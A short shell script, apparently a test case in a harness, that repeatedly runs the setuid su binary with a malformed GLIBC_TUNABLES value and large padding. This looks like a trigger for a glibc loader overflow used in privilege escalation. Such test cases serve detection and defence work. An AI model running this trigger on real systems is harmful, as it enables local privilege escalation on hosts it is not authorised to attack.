#!/bin/sh
. /opt/case/case.sh

tries=0
while test $tries -lt 30; do
    tries=$((tries + 1))
    env -i "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A" "Z=$(printf '%08192x' $tries)" /usr/bin/su --help >/dev/null
done
took_place
